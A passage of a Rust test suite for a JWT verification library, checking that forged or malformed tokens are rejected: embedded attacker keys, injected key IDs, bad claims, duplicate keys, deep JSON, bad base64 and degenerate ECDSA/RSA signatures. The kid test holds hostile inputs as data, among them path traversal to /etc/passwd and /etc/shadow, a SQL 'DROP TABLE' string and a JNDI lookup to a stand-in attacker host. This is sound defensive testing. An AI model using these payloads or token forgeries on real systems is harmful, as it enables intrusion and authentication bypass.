/// with the loaded key are ignored, and it verifies.
#[test]
fn embedded_keys_and_key_urls_are_never_followed() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let jwk = attackers().jwk(alg).to_string();
        let x5c_der = attackers()
            .spki_der(alg)
            .unwrap_or_else(|| random_bytes::<64>().to_vec());
        let x5c = json!([STANDARD.encode(x5c_der)]).to_string();
        let variants = [
            ("jwk", header(alg).push("jwk", jwk.as_str())),
            ("jku", header(alg).push("jku", q(JKU))),
            ("x5u", header(alg).push("x5u", q(X5U))),
            ("x5c", header(alg).push("x5c", x5c.as_str())),
            (
                "jwk, jku, x5u and x5c",
                header(alg)
                    .push("jwk", jwk.as_str())
                    .push("jku", q(JKU))
                    .push("x5u", q(X5U))
                    .push("x5c", x5c.as_str()),
            ),
        ];
        for (what, h) in &variants {
            let payload = claims().text();
            cases.push(
                Case::decode(
                    format!("{alg}: {what}, signed by the attacker"),
                    keys(alg),
                    forge_by(attackers(), alg, &h.text(), &payload),
                    Expect::Is(Error::Signature),
                )
                .planted(JKU)
                .planted(X5U)
                .planted(x5c.as_str()),
            );
            cases.push(Case::decode(
                format!("{alg}: {what}, signed by the loaded key"),
                keys(alg),
                forge_by(ours(), alg, &h.text(), &payload),
                Expect::Accepted,
            ));
        }
        // A kid naming the embedded key only: no fallback to the header's key.
        let mut own_jwk = attackers().jwk(alg);
        own_jwk["kid"] = "attacker-kid".into();
        let h = header(alg)
            .set("kid", q("attacker-kid"))
            .push("jwk", own_jwk.to_string());
        cases.push(
            Case::decode(
                format!("{alg}: kid names only the embedded jwk"),
                keys(alg),
                forge_by(attackers(), alg, &h.text(), &claims().text()),
                Expect::Is(Error::UnknownKey(KeyKind::Signing)),
            )
            .planted("attacker-kid"),
        );
    }
    run("embedded keys", &cases);
}

#[test]
#[allow(clippy::too_many_lines)] // a table of cases
fn injected_kids_are_unknown_key() {
    let long = "k".repeat(10 * 1024);
    let kids: Vec<String> = [
        "../../etc/passwd",
        "../../../../../../dev/null",
        "/etc/shadow",
        r"..\..\windows\win.ini",
        "' OR 1=1 --",
        "\" OR \"\"=\"",
        "1; DROP TABLE signing_keys; --",
        "${jndi:ldap://attacker.example.invalid/kid}",
        "<script>alert('kid')</script>",
        "%2e%2e%2fetc%2fpasswd",
        "",
        "ключ-🔑-鍵",
        "hostile-1\0",
        "\0",
        "hostile-1\0../../etc/passwd",
        "HOSTILE-1",
        "hostile-1 ",
        " hostile-1",
        "hostile-1\n",
        "hostile-",
        "hostile-12",
    ]
    .into_iter()
    .map(str::to_string)
    .chain([long])
    .collect();
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for kid in &kids {
            // Signed by the loaded key: only the kid is wrong.
            let token = forge(alg, &header(alg).set("kid", q(kid)), &claims());
            let keys = if token.len() > DEFAULT_CAP {
                roomy(alg)
            } else {
                keys(alg)
            };
            let shown: String = kid.chars().take(24).collect();
            cases.push(
                Case::decode(
                    format!("{alg}: kid {shown:?} ({} bytes)", kid.len()),
                    keys,
                    token,
                    Expect::Is(Error::UnknownKey(KeyKind::Signing)),
                )
                .planted(kid.as_str()),
            );
        }
        let mut push = |what: &str, h: Obj, expect: Expect| {
            cases.push(Case::decode(
                format!("{alg}: {what}"),
                keys(alg),
                forge(alg, &h, &claims()),
                expect,
            ));
        };
        let unknown = Expect::Is(Error::UnknownKey(KeyKind::Signing));
        push("kid missing", header(alg).without("kid"), unknown.clone());
        push("kid null", header(alg).set("kid", "null"), unknown.clone());
        push("kid 1", header(alg).set("kid", "1"), Expect::Malformed);
        push(
            "kid as an array",
            header(alg).set("kid", format!("[{}]", q(KID))),
            Expect::Malformed,
        );
        push(
            "kid as an object",
            header(alg).set("kid", r#"{"id":1}"#),
            Expect::Malformed,
        );

        // Two keys of this algorithm: a kid names one, the other signed.
        let two = builder()
            .signing_key(ours().signing_key(alg, KID))
            .signing_key(attackers().signing_key(alg, "hostile-2"))
            .build()
            .expect("two keys");
        let two_check = || decode_with_owned(two.clone());
        cases.push(Case::new(
            format!("{alg}: kid of key 1, signed by key 2"),
            two_check(),
            forge_by(attackers(), alg, &header(alg).text(), &claims().text()),
            Expect::Is(Error::Signature),
        ));
        cases.push(Case::new(
            format!("{alg}: kid of key 2, signed by key 1"),
            two_check(),
            forge(alg, &header(alg).set("kid", q("hostile-2")), &claims()),
            Expect::Is(Error::Signature),
        ));
        cases.push(Case::new(
            format!("{alg}: kid of key 2, signed by key 2"),
            two_check(),
            forge_by(
                attackers(),
                alg,
                &header(alg).set("kid", q("hostile-2")).text(),
                &claims().text(),
            ),
            Expect::Accepted,
        ));
    }
    run("kid injection", &cases);
}

// --- typ and crit -------------------------------------------------------------------

#[test]
fn a_token_of_another_typ_is_token_type() {
    let others = [
        "at+jwt",
        "at+JWT",
        "JWS",
        "JOSE",
        "JOSE+JSON",
        "application/jwt",
        "dpop+jwt",
        "JWT ",
        " JWT",
        "JWT\0",
        "JW",
        "JWTJWT",
        "",
        "x-hostile-typ-5e1f",
    ];
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for typ in others {
            cases.push(
                Case::decode(
                    format!("{alg}: typ {typ:?}"),
                    keys(alg),
                    forge(alg, &header(alg).set("typ", q(typ)), &claims()),
                    Expect::Is(Error::TokenType),
                )
                .planted("x-hostile-typ-5e1f"),
            );
        }
        let mut push = |what: &str, h: Obj, expect: Expect| {
            cases.push(Case::decode(
                format!("{alg}: {what}"),
                keys(alg),
                forge(alg, &h, &claims()),
                expect,
            ));
        };
        push(
            "typ missing",
            header(alg).without("typ"),
            Expect::Is(Error::TokenType),
        );
        push(
            "typ null",
            header(alg).set("typ", "null"),
            Expect::Is(Error::TokenType),
        );
        push("typ 1", header(alg).set("typ", "1"), Expect::Malformed);
        push(
            "typ [\"JWT\"]",
            header(alg).set("typ", r#"["JWT"]"#),
            Expect::Malformed,
        );
        push(
            "cty JWT, no typ",
            header(alg).without("typ").push("cty", q("JWT")),
            Expect::Is(Error::TokenType),
        );
    }
    run("typ", &cases);
}

#[test]
fn crit_is_critical_header() {
    let crits = [
        (r#"["exp"]"#, Some(("exp", "1"))),
        (r#"["b64"]"#, Some(("b64", "false"))),
        (r#"["x-hostile-extension"]"#, None),
        (r#"["x-hostile-extension","exp"]"#, None),
        ("[]", None),
        ("[1]", None),
        (r#""exp""#, None),
        ("{}", None),
        ("true", None),
        ("0", None),
    ];
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for (crit, member) in crits {
            let mut h = header(alg).push("crit", crit);
            if let Some((name, raw)) = member {
                h = h.push(name, raw);
            }
            cases.push(
                Case::decode(
                    format!("{alg}: crit {crit}"),
                    keys(alg),
                    forge(alg, &h, &claims()),
                    Expect::Is(Error::CriticalHeader),
                )
                .planted("x-hostile-extension"),
            );
        }
        // crit is refused before typ and kid are looked at.
        let h = header(alg)
            .set("kid", q("no-such-kid"))
            .set("typ", q("at+jwt"))
            .push("crit", r#"["exp"]"#);
        cases.push(Case::decode(
            format!("{alg}: crit with an unknown kid and typ"),
            keys(alg),
            forge(alg, &h, &claims()),
            Expect::Is(Error::CriticalHeader),
        ));
    }
    run("crit", &cases);
}

/// `"crit":null` is `CriticalHeader`, not an absent `crit`: FORMAT.md §7
/// accepts only an absent `crit` (RFC 7515 §4.1.11 makes it a non-empty
/// array), and serde reads a JSON `null` in an `Option` as `None`, so the
/// member's presence is what must count, whatever its value.
#[test]
fn crit_null_is_critical_header() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let h = header(alg).push("crit", "null");
        cases.push(Case::decode(
            format!("{alg}: crit null"),
            keys(alg),
            forge(alg, &h, &claims()),
            Expect::Is(Error::CriticalHeader),
        ));
        cases.push(Case::new(
            format!("{alg}: crit null (verify_compact)"),
            compact_with(alg),
            forge(alg, &h, &claims()),
            Expect::Is(Error::CriticalHeader),
        ));
    }
    run("crit null", &cases);
}

// --- registered claims ----------------------------------------------------------------

#[test]
fn time_claims_of_the_wrong_type_are_invalid_claim() {
    let now = now();
    let wrong: Vec<String> = vec![
        format!("\"{now}\""),
        format!("{now}.0"),
        format!("{now}.5"),
        format!("{now}e0"),
        "1.5".to_string(),
        "1e300".to_string(),
        "1E3".to_string(),
        "-1".to_string(),
        "-0".to_string(), // serde_json reads `-0` as the float -0.0
        format!("-{now}"),
        "-9223372036854775808".to_string(),
        "null".to_string(),
        "true".to_string(),
        "false".to_string(),
        "18446744073709551616".to_string(), // 2^64
        "18446744073709551615".to_string(), // u64::MAX
        "9223372036854775808".to_string(),  // 2^63
        "100000000000000000000000000000".to_string(),
        format!("[{now}]"),
        format!(r#"{{"$date":{now}}}"#),
        q("now"),
    ];
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for claim in ["exp", "nbf", "iat"] {
            for raw in &wrong {
                cases.push(Case::decode(
                    format!("{alg}: {claim} = {raw}"),
                    keys(alg),
                    forge(alg, &header(alg), &claims().set(claim, raw.as_str())),
                    Expect::Is(Error::InvalidClaim { claim }),
                ));
            }
            cases.push(Case::decode(
                format!("{alg}: {claim} missing"),
                keys(alg),
                forge(alg, &header(alg), &claims().without(claim)),
                Expect::Is(Error::MissingClaim { claim }),
            ));
        }
        // The largest accepted NumericDate is i64::MAX: read, then judged.
        let max = i64::MAX.to_string();
        for (claim, expect) in [
            ("exp", Error::Lifetime),
            ("nbf", Error::NotYetValid),
            ("iat", Error::NotYetValid),
        ] {
            cases.push(Case::decode(
                format!("{alg}: {claim} = i64::MAX"),
                keys(alg),
                forge(alg, &header(alg), &claims().set(claim, max.as_str())),
                Expect::Is(expect),
            ));
        }
        cases.push(Case::decode(
            format!("{alg}: exp = 0"),
            keys(alg),
            forge(alg, &header(alg), &claims().set("exp", "0")),
            Expect::Is(Error::Expired),
        ));
    }
    run("time claims", &cases);
}

#[test]
fn an_issuer_that_is_not_exactly_ours_is_issuer() {
    let upper = ISSUER.to_uppercase();
    let variants: Vec<String> = vec![
        format!("[{}]", q(ISSUER)),
        format!("[{},{}]", q(ISSUER), q(ISSUER)),
        q(&ISSUER[..ISSUER.len() - 1]),
        q("https://auth.example"),
        q("https://"),
        q(&format!("{ISSUER}/")),
        q(&format!("{ISSUER}.attacker.example.invalid")),
        q(&format!("{ISSUER}@attacker.example.invalid")),
        q(&upper),
        q(&ISSUER.replacen("https", "HTTPS", 1)),
        q(&ISSUER.replacen("https", "http", 1)),
        q(&format!("{ISSUER} ")),
        q(&format!(" {ISSUER}")),
        q(&format!("{ISSUER}\0")),
        q(""),
        "null".to_string(),
        "1".to_string(),
        "true".to_string(),
        format!(r#"{{"iss":{}}}"#, q(ISSUER)),
    ];
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for raw in &variants {
            cases.push(
                Case::decode(
                    format!("{alg}: iss {raw}"),
                    keys(alg),
                    forge(alg, &header(alg), &claims().set("iss", raw.as_str())),
                    Expect::Is(Error::Issuer),
                )
                .planted(".attacker.example.invalid")
                .planted(upper.as_str()),
            );
        }
        cases.push(Case::decode(
            format!("{alg}: iss missing"),
            keys(alg),
            forge(alg, &header(alg), &claims().without("iss")),
            Expect::Is(Error::MissingClaim { claim: "iss" }),
        ));
    }
    run("iss", &cases);
}

#[test]
fn an_audience_without_ours_is_audience() {
    let variants: Vec<String> = vec![
        "[]".to_string(),
        "42".to_string(),
        "[42]".to_string(),
        "{}".to_string(),
        format!(r#"{{"aud":{}}}"#, q(AUDIENCE)),
        "null".to_string(),
        "[null]".to_string(),
        "true".to_string(),
        format!("[{},42]", q(AUDIENCE)),
        format!("[[{}]]", q(AUDIENCE)),
        q(""),
        q("orders"),
        q("orders-api-v2"),
        q("ORDERS-API"),
        q(&format!("{AUDIENCE} ")),
        q(&format!("{AUDIENCE}\0")),
        q("billing-api-attacker-aud"),
        format!("[{}]", q("billing-api-attacker-aud")),
    ];
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for raw in &variants {
            cases.push(
                Case::decode(
                    format!("{alg}: aud {raw}"),
                    keys(alg),
                    forge(alg, &header(alg), &claims().set("aud", raw.as_str())),
                    Expect::Is(Error::Audience),
                )
                .planted("billing-api-attacker-aud"),
            );
        }
        cases.push(Case::decode(
            format!("{alg}: aud missing"),
            keys(alg),
            forge(alg, &header(alg), &claims().without("aud")),
            Expect::Is(Error::MissingClaim { claim: "aud" }),
        ));
    }
    run("aud", &cases);
}

// --- JSON shape -----------------------------------------------------------------------

#[test]
fn duplicate_keys_are_malformed() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let now = now();
        let payloads = [
            ("exp twice", claims().push("exp", (now + 3_000).to_string())),
            (
                "iss twice",
                claims().push("iss", q("https://attacker.example.invalid")),
            ),
            ("iss twice, same value", claims().push("iss", q(ISSUER))),
            ("aud twice", claims().push("aud", q("billing-api"))),
            ("role twice", claims().push("role", q("admin"))),
            (
                "an undeclared claim twice",
                claims().push("note", q("again")),
            ),
            (
                "exp and an escaped exp",
                claims().push(r"\u0065xp", (now + 3_000).to_string()),
            ),
            (
                "role and an escaped role",
                claims().push(r"rol\u0065", q("admin")),
            ),
            ("a duplicate among 40 claims", {
                let mut many = claims();
                for i in 0..32 {
                    many = many.push(&format!("x{i}"), i.to_string());
                }
                many.push("x7", q("again"))
            }),
        ];
        for (what, payload) in payloads {
            cases.push(Case::decode(
                format!("{alg}: payload with {what}"),
                keys(alg),
                forge(alg, &header(alg), &payload),
                Expect::Malformed,
            ));
        }
        let headers = [
            ("alg twice, then none", header(alg).push("alg", q("none"))),
            (
                "alg twice, same value",
                header(alg).push("alg", q(alg.as_str())),
            ),
            (
                "alg and an escaped alg",
                header(alg).push(r"\u0061lg", q("none")),
            ),
            ("kid twice", header(alg).push("kid", q("hostile-2"))),
            ("typ twice", header(alg).push("typ", q("JWT"))),
            (
                "crit twice",
                header(alg).push("crit", "[]").push("crit", "[]"),
            ),
        ];
        for (what, h) in headers {
            cases.push(Case::decode(
                format!("{alg}: header with {what}"),
                keys(alg),
                forge(alg, &h, &claims()),
                Expect::Malformed,
            ));
        }
        // A member the header does not read, twice: RFC 7515 §4 lets a parser
        // keep the last one; `claims` reads neither.
        cases.push(Case::decode(
            format!("{alg}: header with jku twice"),
            keys(alg),
            forge(
                alg,
                &header(alg).push("jku", q(JKU)).push("jku", q(X5U)),
                &claims(),
            ),
            Expect::Accepted,
        ));
    }
    run("duplicate keys", &cases);
}

/// 10,000-deep arrays and objects, where the decoder reads a value (an error
/// from `serde_json`'s recursion limit, never a stack overflow) and where it
/// skips one (iteratively).
#[test]
#[allow(clippy::too_many_lines)] // a table of cases
fn json_nested_10000_deep_is_an_error_not_a_crash() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for objects in [false, true] {
            let nested = deep(DEPTH, objects);
            let shape = if objects { "objects" } else { "arrays" };
            let in_claim = |claim: &str| claims().set(claim, nested.as_str());
            let payloads = [
                (
                    "exp",
                    in_claim("exp"),
                    Expect::Is(Error::InvalidClaim { claim: "exp" }),
                ),
                (
                    "nbf",
                    in_claim("nbf"),
                    Expect::Is(Error::InvalidClaim { claim: "nbf" }),
                ),
                (
                    "iat",
                    in_claim("iat"),
                    Expect::Is(Error::InvalidClaim { claim: "iat" }),
                ),
                (
                    "jti",
                    in_claim("jti"),
                    Expect::Is(Error::InvalidClaim { claim: "jti" }),
                ),
                (
                    "role",
                    in_claim("role"),
                    Expect::Is(Error::InvalidClaim { claim: "role" }),
                ),
                (
                    "prefs (a Value)",
                    in_claim("prefs"),
                    Expect::Is(Error::InvalidClaim { claim: "prefs" }),
                ),
                ("aud", in_claim("aud"), Expect::Is(Error::Audience)),
                ("iss", in_claim("iss"), Expect::Is(Error::Issuer)),
                ("an undeclared claim", in_claim("x-deep"), Expect::Accepted),
            ];
            for (place, payload, expect) in payloads {
                cases.push(Case::decode(
                    format!("{alg}: {shape} in {place}"),
                    roomy(alg),
                    forge(alg, &header(alg), &payload),
                    expect,
                ));
            }
            cases.push(Case::decode(
                format!("{alg}: {shape} as the whole payload"),
                roomy(alg),
                forge_by(ours(), alg, &header(alg).text(), &nested),
                if objects {
                    // One member, `a`, skipped: no `iss`.
                    Expect::Is(Error::MissingClaim { claim: "iss" })
                } else {
                    Expect::Malformed
                },
            ));
            let headers = [
                (
                    "alg",
                    header(alg).set("alg", nested.as_str()),
                    Expect::Malformed,
                ),
                (
                    "kid",
                    header(alg).set("kid", nested.as_str()),
                    Expect::Malformed,
                ),
                (
                    "typ",
                    header(alg).set("typ", nested.as_str()),
                    Expect::Malformed,
                ),
                (
                    "crit",
                    header(alg).push("crit", nested.as_str()),
                    Expect::Is(Error::CriticalHeader),
                ),
                (
                    "an unknown member",
                    header(alg).push("x-deep", nested.as_str()),
                    Expect::Accepted,
                ),
            ];
            for (place, h, expect) in headers {
                cases.push(Case::decode(
                    format!("{alg}: {shape} in header {place}"),
                    roomy(alg),
                    forge(alg, &h, &claims()),
                    expect,
                ));
            }
            cases.push(Case::decode(
                format!("{alg}: {shape} as the whole header"),
                roomy(alg),
                forge_by(ours(), alg, &nested, &claims().text()),
                if objects {
                    // One unknown member, skipped: no `alg`.
                    Expect::Is(Error::Algorithm)
                } else {
                    Expect::Malformed
                },
            ));
            let token = forge(alg, &header(alg), &in_claim("prefs"));
            cases.push(Case::decode(
                format!("{alg}: {shape} in prefs, default size cap"),
                keys(alg),
                token.clone(),
                Expect::Is(Error::TooLarge {
                    len: token.len(),
                    max: DEFAULT_CAP,
                }),
            ));
        }
    }
    run("deep JSON", &cases);
}

/// A header that is a JSON array is `Malformed`, even one whose elements
/// line up with the header's members: `serde_json` would let
/// `["ES256","JWT","hostile-1",null]` fill a derived struct in order, as
/// `{"alg":"ES256","typ":"JWT","kid":"hostile-1","crit":null}`, and the token
/// would verify. FORMAT.md §7 and RFC 7515 §4 require a JSON object, and
/// other JOSE libraries reject such a token, so accepting it would be a
/// parser differential. (`test_tamper`'s `header_not_object` covers a
/// three-element array, which fails on length alone.)
#[test]
fn a_header_that_is_a_json_array_is_malformed() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let array = format!(r#"["{alg}","JWT","{KID}",null]"#);
        cases.push(Case::decode(
            format!("{alg}: header {array}"),
            keys(alg),
            forge_by(ours(), alg, &array, &claims().text()),
            Expect::Malformed,
        ));
        cases.push(Case::new(
            format!("{alg}: header {array} (verify_compact)"),
            compact_with(alg),
            forge_by(ours(), alg, &array, &claims().text()),
            Expect::Malformed,
        ));
    }
    run("header as an array", &cases);
}

// --- compact serialization ---------------------------------------------------------------

#[test]
fn anything_but_three_segments_is_malformed() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let token = valid(alg);
        let (h, p, s) = split(&token);
        let shapes = [
            ("0 segments: empty", String::new()),
            ("1 segment: header", h.to_string()),
            ("1 segment: payload", p.to_string()),
            ("1 segment: signature", s.to_string()),
            ("2 segments", format!("{h}.{p}")),
            ("2 segments: header.signature", format!("{h}.{s}")),
            ("2 segments: empty", ".".to_string()),
            ("3 empty segments", "..".to_string()),
            ("4 segments", format!("{token}.{s}")),
            ("4 segments: trailing dot", format!("{token}.")),
            ("4 segments: leading dot", format!(".{token}")),
            ("4 segments: empty", "...".to_string()),
            ("5 segments", format!("{token}.{p}.{s}")),
            ("5 segments: JWE-shaped", format!("{h}..{p}.{p}.{s}")),
            ("5 segments: empty", "....".to_string()),
            ("3 segments, empty header", format!(".{p}.{s}")),
        ];
        for (what, text) in shapes {
            cases.push(Case::decode(
                format!("{alg}: {what}"),
                keys(alg),
                text,
                Expect::Malformed,
            ));
        }
        // Three segments with an empty payload, validly signed.
        cases.push(Case::decode(
            format!("{alg}: empty payload segment, signed"),
            keys(alg),
            forge_segments(ours(), alg, h, ""),
            Expect::Malformed,
        ));
    }
    run("segments", &cases);
}

/// Padding, the standard alphabet, non-canonical trailing bits and
/// whitespace in each segment. Header and payload variants are validly signed
/// over their bytes as sent, so only the base64 can fail.
#[test]
#[allow(clippy::too_many_lines)] // one block per segment
fn bad_base64_in_each_segment_is_malformed() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let payload_b64 = B64.encode(claims().text());
        let header_b64 = B64.encode(header(alg).text());

        // Header.
        let wide_header = with_url_only_characters(&header(alg)).text();
        let aligned_header = unaligned(&header(alg));
        let mut header_variants = vec![
            ("padding =", format!("{header_b64}=")),
            ("padding ==", format!("{header_b64}==")),
            ("padded standard base64", STANDARD.encode(&aligned_header)),
            (
                "standard alphabet (+ and /)",
                standard_alphabet(&wide_header),
            ),
            ("a + inside", insert_middle(&header_b64, "+")),
            ("a / inside", insert_middle(&header_b64, "/")),
            (
                "non-canonical trailing bits",
                non_canonical(&B64.encode(&aligned_header)),
            ),
            ("a space inside", insert_middle(&header_b64, " ")),
            ("a leading space", format!(" {header_b64}")),
            ("a trailing space", format!("{header_b64} ")),
            ("a tab inside", insert_middle(&header_b64, "\t")),
            ("a newline inside", insert_middle(&header_b64, "\n")),
            ("CRLF inside", insert_middle(&header_b64, "\r\n")),
            (
                "a percent-encoded character",
                insert_middle(&header_b64, "%3D"),
            ),
            ("a non-ASCII character", insert_middle(&header_b64, "é")),
        ];
        header_variants.push((
            "a UTF-8 BOM before the JSON",
            B64.encode(format!("\u{feff}{}", header(alg).text())),
        ));
        for (what, h) in header_variants {
            cases.push(Case::decode(
                format!("{alg}: header with {what}"),
                keys(alg),
                forge_segments(ours(), alg, &h, &payload_b64),
                Expect::Malformed,
            ));
        }

        // Payload.
        let wide_payload = with_url_only_characters(&claims()).text();
        let aligned_payload = unaligned(&claims());
        let payload_variants = [
            ("padding =", format!("{payload_b64}=")),
            ("padded standard base64", STANDARD.encode(&aligned_payload)),
            (
                "standard alphabet (+ and /)",
                standard_alphabet(&wide_payload),
            ),
            ("a + inside", insert_middle(&payload_b64, "+")),
            ("a / inside", insert_middle(&payload_b64, "/")),
            (
                "non-canonical trailing bits",
                non_canonical(&B64.encode(&aligned_payload)),
            ),
            ("a space inside", insert_middle(&payload_b64, " ")),
            ("a leading space", format!(" {payload_b64}")),
            ("a newline inside", insert_middle(&payload_b64, "\n")),
            ("a tab inside", insert_middle(&payload_b64, "\t")),
        ];
        for (what, p) in payload_variants {
            cases.push(Case::decode(
                format!("{alg}: payload with {what}, signed as sent"),
                keys(alg),
                forge_segments(ours(), alg, &header_b64, &p),
                Expect::Malformed,
            ));
        }
        // The positive controls of the two tricks above: the aligned texts
        // themselves are fine.
        cases.push(Case::decode(
            format!("{alg}: header and payload with trailing JSON whitespace"),
            keys(alg),
            forge_by(ours(), alg, &aligned_header, &aligned_payload),
            Expect::Accepted,
        ));
        cases.push(Case::decode(
            format!("{alg}: header and payload with filler members"),
            keys(alg),
            forge_by(ours(), alg, &wide_header, &wide_payload),
            Expect::Accepted,
        ));

        // Signature.
        let token = valid(alg);
        let (h, p, s) = split(&token);
        let mut signature_variants = vec![
            ("padding =", format!("{s}=")),
            ("a + inside", insert_middle(s, "+")),
            ("a / inside", insert_middle(s, "/")),
            ("a space inside", insert_middle(s, " ")),
            ("a trailing newline", format!("{s}\n")),
            ("a trailing CRLF", format!("{s}\r\n")),
            ("a trailing space", format!("{s} ")),
            ("a tab inside", insert_middle(s, "\t")),
        ];
        let standard = STANDARD.encode(B64.decode(s).expect("b64"));
        if standard != s {
            // Unless the signature fills whole groups in the shared alphabet.
            signature_variants.push(("padded standard base64", standard));
        }
        if s.contains(['-', '_']) {
            let standard = s.replace('-', "+").replace('_', "/");
            signature_variants.push(("standard alphabet", standard));
        }
        if s.len() % 4 != 0 {
            // HS384's 48 bytes fill whole base64 groups: no unused bits.
            signature_variants.push(("non-canonical trailing bits", non_canonical(s)));
        }
        for (what, sig) in signature_variants {
            cases.push(Case::decode(
                format!("{alg}: signature with {what}"),
                keys(alg),
                format!("{h}.{p}.{sig}"),
                Expect::Malformed,
            ));
        }
    }
    run("base64", &cases);
}

/// An empty, truncated, over-long, zeroed or foreign signature.
#[test]
fn a_wrong_signature_segment_is_signature() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let token = valid(alg);
        let (h, p, s) = split(&token);
        let sig = B64.decode(s).expect("b64");
        let other_input = format!(
            "{h}.{}",
            B64.encode(claims().set("role", q("admin")).text())
        );
        let variants: Vec<(&str, Vec<u8>)> = vec![
            ("empty", Vec::new()),
            ("one byte short", sig[..sig.len() - 1].to_vec()),
            ("half", sig[..sig.len() / 2].to_vec()),
            ("one byte", sig[..1].to_vec()),
            ("one zero byte too many", [&sig[..], &[0]].concat()),
            ("a leading zero byte", [&[0], &sig[..]].concat()),
            ("twice", [&sig[..], &sig[..]].concat()),
            ("all zero", vec![0; sig.len()]),
            ("all 0xff", vec![0xff; sig.len()]),
            (
                "over another payload",
                ours().sign(alg, other_input.as_bytes()),
            ),
            (
                "by the attacker's key",
                attackers().sign(alg, format!("{h}.{p}").as_bytes()),
            ),
        ];
        for (what, bytes) in variants {
            cases.push(Case::decode(
                format!("{alg}: signature {what}"),
                keys(alg),
                format!("{h}.{p}.{}", B64.encode(bytes)),
                Expect::Is(Error::Signature),
            ));
        }
        // "null" is valid base64url (3 bytes): a signature of the wrong length.
        cases.push(Case::decode(
            format!("{alg}: signature segment \"null\""),
            keys(alg),
            format!("{h}.{p}.null"),
            Expect::Is(Error::Signature),
        ));
    }
    run("signature segment", &cases);
}

// --- algorithm-specific degenerate signatures ------------------------------------------------

fn hex(text: &str) -> Vec<u8> {
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&text[i..i + 2], 16).expect("hex"))
        .collect()
}

/// `bytes` + 1, big-endian, in the same width.
fn plus_one(bytes: &[u8]) -> Vec<u8> {
    let mut out = bytes.to_vec();
    for byte in out.iter_mut().rev() {
        let (sum, carry) = byte.overflowing_add(1);
        *byte = sum;
        if !carry {
            return out;
        }
    }
    panic!("overflow");
}

/// ECDSA signatures with `r` or `s` out of `1..n`, DER instead of `r || s`,
/// and wrong lengths: ES256's "psychic signature" (`r = s = 0`) among them.
#[test]
fn ecdsa_psychic_out_of_range_and_der_signatures_are_signature() {
    const P256_N: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    const P384_N: &str = "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973";
    let mut cases = Vec::new();
    for (alg, n) in [
        (Algorithm::ES256, hex(P256_N)),
        (Algorithm::ES384, hex(P384_N)),
    ] {
        let width = n.len();
        let token = valid(alg);
        let (h, p, s) = split(&token);
        let sig = B64.decode(s).expect("b64");
        let (r0, s0) = sig.split_at(width);
        let zero = vec![0u8; width];
        let mut one = vec![0u8; width];
        one[width - 1] = 1;
        let n1 = plus_one(&n);
        let ones = vec![0xffu8; width];
        let der = match alg {
            Algorithm::ES256 => p256::ecdsa::Signature::from_slice(&sig)
                .expect("r || s")
                .to_der()
                .as_bytes()
                .to_vec(),
            _ => p384::ecdsa::Signature::from_slice(&sig)
                .expect("r || s")
                .to_der()
                .as_bytes()
                .to_vec(),
        };
        let variants: Vec<(&str, Vec<u8>)> = vec![
            ("r = s = 0 (psychic)", [&zero[..], &zero].concat()),
            ("r = 0", [&zero[..], s0].concat()),
            ("s = 0", [r0, &zero].concat()),
            ("r = s = 1", [&one[..], &one].concat()),
            ("r = s = n", [&n[..], &n].concat()),
            ("r = n", [&n[..], s0].concat()),
            ("s = n", [r0, &n].concat()),
            ("r = n + 1", [&n1[..], s0].concat()),
            ("s = n + 1", [r0, &n1].concat()),
            ("r = s = 2^k - 1", [&ones[..], &ones].concat()),
            ("r = 0, s = n", [&zero[..], &n].concat()),
            ("DER-encoded", der.clone()),
            (
                "DER of r = s = 0",
                vec![0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00],
            ),
            ("r only", r0.to_vec()),
            ("r || s || 0", [&sig[..], &[0]].concat()),
            ("0x04-prefixed", [&[4], &sig[..]].concat()),
        ];
        assert_ne!(der.len(), sig.len());
        for (what, bytes) in variants {
            cases.push(Case::decode(
                format!("{alg}: {what}"),
                keys(alg),
                format!("{h}.{p}.{}", B64.encode(&bytes)),
                Expect::Is(Error::Signature),
            ));
            cases.push(Case::new(
                format!("{alg}: {what} (verify_compact)"),
                compact_with(alg),
                format!("{h}.{p}.{}", B64.encode(&bytes)),
                Expect::Is(Error::Signature),
            ));
        }
        // Not refused, and pinned so a change is a decision: `(r, n - s)`
        // verifies wherever `(r, s)` does. ECDSA signatures are malleable and
        // RFC 7518 §3.4 does not require low `s`, so two spellings of one
        // token exist: key replay protection on `jti`, never on the signature.
        let flipped = BigUint::from_bytes_be(&n) - BigUint::from_bytes_be(s0);
        let mut high_s = flipped.to_bytes_be();
        while high_s.len() < width {
            high_s.insert(0, 0);
        }
        cases.push(Case::decode(
            format!("{alg}: (r, n - s), the same signature's twin"),
            keys(alg),
            format!("{h}.{p}.{}", B64.encode([r0, &high_s].concat())),
            Expect::Accepted,
        ));
    }
    run("ECDSA degenerate signatures", &cases);
}

/// RSA signatures `0`, `1`, `n - 1`, `n`, `n + 1` and of the wrong length.
#[test]
fn rsa_degenerate_signatures_are_signature() {
    let n = ours().rsa.n().clone();
    let size = ours().rsa.size();
    let fixed = |value: &BigUint| {
        let bytes = value.to_bytes_be();
        assert!(bytes.len() <= size);
        [vec![0u8; size - bytes.len()], bytes].concat()
    };
    let one = BigUint::from(1u32);
    let mut cases = Vec::new();
    for alg in [Algorithm::RS256, Algorithm::PS256] {
        let token = valid(alg);
        let (h, p, s) = split(&token);
        let sig = B64.decode(s).expect("b64");
        let variants: Vec<(&str, Vec<u8>)> = vec![
            ("0", vec![0; size]),
            ("1", fixed(&one)),
            ("n - 1", fixed(&(&n - &one))),
            ("n", fixed(&n)),
            ("n + 1", fixed(&(&n + &one))),
